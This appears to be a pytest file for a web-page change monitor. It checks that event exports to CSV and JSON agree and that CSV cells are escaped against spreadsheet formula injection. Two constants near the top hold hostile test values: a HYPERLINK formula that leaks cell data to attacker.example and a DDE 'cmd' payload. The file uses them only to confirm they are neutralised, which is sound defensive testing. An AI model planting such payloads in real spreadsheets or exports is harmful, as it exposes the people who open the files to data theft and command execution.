"""`events --format csv|json` and the report's events.json / events.csv, against `events --json`.

The records come from the real pipeline (page server on 127.0.0.1, SQLite file); the files are
read back with the standard csv and json modules, as a researcher's notebook would.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from monitor.check import check_page
from monitor.export import FIELDS, cell
from monitor.models import Event
from monitor.pageserver import PageServer
from tests.conftest import ROOT, run_cli
from tests.test_report import _page, scenario

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
EVIL_COMPANY = "@SUM(1+1)*cmd|' /C calc'!A0"


def _with_hostile_page(server: PageServer, write_config: Callable[..., Path],
                       runtime_for: Callable[[Path], Any]) -> tuple[Path, Any]:
    """The report tests' scenario, plus a page whose company and first changed line are formulas."""
    config, _ = scenario(server, write_config, runtime_for)
    text = config.read_text() + (
        f'\n[[pages]]\nid = "evil"\ncompany = {json.dumps(EVIL_COMPANY)}\nurl = "{server.url("/evil")}"\n')
    config.write_text(text)
    rt2 = runtime_for(config)
    evil = rt2.config.page("evil")
    server.set("/evil", _page("Ordinary text about requests."))
    assert check_page(rt2, evil).status == "baseline"
    server.set("/evil", _page("Ordinary text about requests.", FORMULA, "Für alle — “quoted”.", "-1 + 2"))
    assert check_page(rt2, evil).status == "changed"
    return config, rt2


def _csv_out(config: Path, *args: str) -> str:
    """`events --format csv` as the bytes it wrote, decoded (no newline translation)."""
    full_env = {**os.environ, "PYTHONUNBUFFERED": "1"}
    result = subprocess.run([sys.executable, "-m", "monitor", "events", "--format", "csv", *args, "--config",
                             str(config)], capture_output=True, env=full_env, cwd=ROOT, timeout=120)
    assert result.returncode == 0, result.stderr
    return result.stdout.decode("utf-8")


def _json_lines(config: Path, *args: str) -> list[dict[str, Any]]:
    result = run_cli("events", "--json", *args, "--config", str(config))
    assert result.returncode == 0, result.stderr
    return [json.loads(line) for line in result.stdout.splitlines()]


def _matches(rows: list[dict[str, str]], header: list[str], records: list[dict[str, Any]]) -> None:
    """Every CSV row holds its JSON record's values, cell by cell, and nothing else."""
    assert header[: len(FIELDS)] == list(FIELDS)
    assert set().union(*(rec.keys() for rec in records)) <= set(header)
    assert len(rows) == len(records)
    for row, rec in zip(rows, records, strict=True):
        for column in header:
            value = rec.get(column)
            assert row[column] == cell(value), (column, row[column], value)
            # The documented way back: drop one leading apostrophe.
            text = row[column][1:] if row[column].startswith("'") else row[column]
            plain = json.dumps(value, ensure_ascii=False) if isinstance(value, list | dict) else str(value)
            assert text == ("" if value is None else plain), (column, text, value)


def _read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader.fieldnames or []), list(reader)


def test_cells_are_neutralised_against_formulas() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'already"):
        assert cell(text) == "'" + text
    for text in ("Hong Kong", "", " =not at the start", "1=1", "https://example.org/?a=b"):
        assert cell(text) == text
    assert cell(None) == "" and cell(12) == "12" and cell(-3) == "-3" and cell(True) == "true"
    assert cell(["+ added", "- removed"]) == '["+ added", "- removed"]' and cell({"a": 1}) == '{"a": 1}'
    assert cell(-1.5) == "-1.5"  # numbers are numbers, not formulas


def test_events_format_csv_and_json_match_events_json(server: PageServer, write_config: Callable[..., Path],
                                                      runtime_for: Callable[[Path], Any]) -> None:
    config, _ = _with_hostile_page(server, write_config, runtime_for)
    records = _json_lines(config)
    kinds = [rec["kind"] for rec in records]
    assert kinds.count("pause_started") == 2 and "pause_lifted" in kinds and kinds.count("changed") >= 4
    assert any(rec.get("evidence") for rec in records) and any(rec["company"] == EVIL_COMPANY for rec in records)
    assert any(rec["quote"] == FORMULA for rec in records), "the scenario must produce a formula-like quote"

    as_json = run_cli("events", "--format", "json", "--config", str(config))
    assert as_json.returncode == 0 and as_json.stdout == run_cli("events", "--json", "--config", str(config)).stdout

    text = _csv_out(config)
    assert text.startswith(",".join(FIELDS) + "\r\n")
    header, rows = _read_csv(text)
    _matches(rows, header, records)
    evil = [row for row in rows if row["page"] == "evil"]
    assert evil and all(row["company"] == "'" + EVIL_COMPANY for row in evil)
    assert any(row["quote"] == "'" + FORMULA for row in evil)
    # No cell that a spreadsheet would evaluate.
    assert not [value for row in rows for value in row.values() if value[:1] in ("=", "+", "-", "@", "\t", "\r")]

    # Filters apply to every format; an empty selection is a header row alone.
    paused = _read_csv(_csv_out(config, "--kind", "pause_started"))
    _matches(paused[1], paused[0], _json_lines(config, "--kind", "pause_started"))
    assert _csv_out(config, "--since", "2999-01-01") == ",".join(FIELDS) + "\r\n"

    clash = run_cli("events", "--json", "--format", "csv", "--config", str(config))
    assert clash.returncode == 2 and "--json" in clash.stderr and "Traceback" not in clash.stderr
    bad = run_cli("events", "--format", "xml", "--config", str(config))
    assert bad.returncode == 2


def _report(config: Path, out: Path) -> tuple[list[dict[str, Any]], str]:
    result = run_cli("report", "--out", str(out), "--config", str(config))
    assert result.returncode == 0, result.stderr
    with open(out / "events.json", encoding="utf-8") as handle:
        data = json.load(handle)
    return data, (out / "events.csv").read_bytes().decode("utf-8")


def _same_as_events(config: Path, out: Path) -> None:
    records = _json_lines(config)
    data, text = _report(config, out)
    assert data == records
    header, rows = _read_csv(text)
    _matches(rows, header, records)
    assert text == _csv_out(config)


def _same_as_store(rt: Any, out: Path) -> None:
    """In-process: write the files and compare them with the store's events (what `events --json`
    prints, as the CLI comparisons above establish)."""
    from monitor.export import write_csv, write_event_files

    write_event_files(rt.store, out)
    records = [event.as_json() for event in rt.store.events()]
    with open(out / "events.json", encoding="utf-8") as handle:
        assert json.load(handle) == records
    text = (out / "events.csv").read_bytes().decode("utf-8")
    header, rows = _read_csv(text)
    _matches(rows, header, records)
    expected = io.StringIO(newline="")
    write_csv(records, expected)
    assert text == expected.getvalue()


def test_report_writes_events_json_and_csv(server: PageServer, write_config: Callable[..., Path],
                                           runtime_for: Callable[[Path], Any], tmp_path: Path) -> None:
    config, rt = _with_hostile_page(server, write_config, runtime_for)
    out = tmp_path / "site"
    _same_as_events(config, out)
    assert b'href="events.csv"' in (out / "index.html").read_bytes()
    csv_before = (out / "events.csv").read_bytes()

    # One more change: the files grow by its events (appended, the old bytes kept as they were).
    server.set("/evil", _page("Ordinary text about requests.", "A new sentence, für alle."))
    assert check_page(rt, rt.config.page("evil")).status == "changed"
    _same_as_events(config, out)
    assert (out / "events.csv").read_bytes().startswith(csv_before)
    _same_as_events(config, out)  # nothing new: still the same

    # An event that sorts before ones already written (as an archive import makes): rewritten in order.
    with rt.store.session() as session:
        first = rt.store.events()[0]
        session.add(Event(page_id="evil", company=EVIL_COMPANY, url=first.url, kind="changed", quote="+early",
                          detected_at=first.detected_at - timedelta(days=30)))
        session.commit()
    _same_as_store(rt, out)
    assert rt.store.events()[0].quote == "+early"

    # Files changed behind the report's back are rewritten whole.
    for name in ("events.json", "events.csv"):
        path = out / name
        path.write_bytes(path.read_bytes()[:-40])
        _same_as_store(rt, out)


@pytest.mark.parametrize("broken", ["state", "missing"])
def test_report_recovers_from_a_lost_or_broken_state(server: PageServer, write_config: Callable[..., Path],
                                                     runtime_for: Callable[[Path], Any], tmp_path: Path,
                                                     broken: str) -> None:
    _, rt = scenario(server, write_config, runtime_for)
    out = tmp_path / "site"
    _same_as_store(rt, out)
    if broken == "state":
        (out / ".events-export.json").write_text("{not json")
    else:
        (out / "events.json").unlink()
    _same_as_store(rt, out)


def test_a_rebuild_after_a_change_reads_only_the_new_events(server: PageServer, write_config: Callable[..., Path],
                                                            runtime_for: Callable[[Path], Any], tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """The daemon rebuilds after every change: the export must not read (or encode) the whole record."""
    from monitor.export import write_event_files

    _, rt = scenario(server, write_config, runtime_for)
    out = tmp_path / "site"
    write_event_files(rt.store, out)
    full_reads: list[int] = []
    real_events = rt.store.events
    monkeypatch.setattr(rt.store, "events", lambda **kw: full_reads.append(1) or real_events(**kw))
    server.set("/acme", _page("Acme answers requests.", "Acme now publishes a report."))
    assert check_page(rt, rt.config.page("acme-guidelines")).status == "changed"
    write_event_files(rt.store, out)
    assert full_reads == []
    with open(out / "events.json", encoding="utf-8") as handle:
        assert json.load(handle) == [event.as_json() for event in real_events()]
    # An event that must go in the middle: the one case that reads everything again.
    with rt.store.session() as session:
        session.add(Event(page_id="acme-guidelines", company="Acme", url="https://acme.example/", kind="changed",
                          detected_at=real_events()[0].detected_at - timedelta(days=1)))
        session.commit()
    write_event_files(rt.store, out)
    assert full_reads == [1]
    with open(out / "events.json", encoding="utf-8") as handle:
        assert json.load(handle) == [event.as_json() for event in real_events()]
